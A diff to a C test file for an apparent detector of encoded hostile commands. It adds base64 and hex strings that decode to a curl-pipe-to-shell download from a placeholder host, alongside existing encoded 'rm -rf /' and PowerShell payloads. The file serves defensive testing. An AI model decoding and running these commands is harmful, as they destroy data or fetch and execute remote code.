@@ -98,6 +98,12 @@ static void test_payloads(void)
     GIVES("ZWNobyBjbTBnTFhKbUlDOEs=", "remove-root", 1, "base64"); /* echo cm0gLXJmIC8K */
     GIVES("powershell -e cgBtACAALQByAGYAIAAvAA==", "remove-root", 1, "base64"); /* UTF-16 */
     PASSES("sha256: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08");
+    /* one run over several lines: cut at a word, with the author's marks around it, a short rest, hex */
+    GIVES("run this:\n\nY3VybCAtcyBodHRwOi8\nvZXZpbC5leGFtcGxlL\n3guc2ggfCBzaA==\n\ndone", "download-pipe-shell", 3, "base64");
+    GIVES("s = \"Y3VybCAtcyBodHRwOi8\" \\\n    \"vZXZpbC5leGFtcGxlL\" \\\n    \"3guc2ggfCBzaA==\"\n", "download-pipe-shell", 1, "base64");
+    GIVES("> Y3VybCAtcyBodHRwOi8vZXZpbC5leGFtcGxlL3guc2cg\n> fCBz\n> aA\n", "download-pipe-shell", 1, "base64");
+    GIVES("6375726c202d7320687474703a2f2f6576\n696c2e6578616d706c652f782e7368207c\n207368\n", "download-pipe-shell", 1, "hex");
+    PASSES("2fd4e1c67a2d28fced849ee1bb76e7391b93eb12  a.txt\nda39a3ee5e6b4b0d3255bfef95601890afd80709  b.txt\n");
     PASSES("![x](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)");
     {
         static const unsigned char le[] = { 0xff, 0xfe, 'r', 0, 'm', 0, ' ', 0, '-', 0, 'r', 0, 'f', 0, ' ', 0, '/', 0 };
